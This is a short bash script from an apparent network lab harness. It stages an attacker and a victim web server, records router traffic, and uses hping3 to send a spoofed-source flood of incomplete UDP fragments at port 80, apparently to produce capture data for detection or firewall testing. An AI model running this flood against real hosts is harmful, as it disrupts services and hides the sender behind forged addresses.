#!/bin/bash
# hping3 -x: a flood of first fragments (more-fragments set) whose rest never
# comes, by random sources.
. "$(dirname "$0")/../../lab.sh"; lab
outside attacker 203.0.113.66
inside victim 10.20.0.10
web victim 80 443
record router wan -s 96
on attacker timeout 12 hping3 -q -n -I eth0 --udp -p 80 --rand-source -x -d 64 -i u60 -c 24000 10.20.0.10 >/dev/null 2>&1 || true
recorded
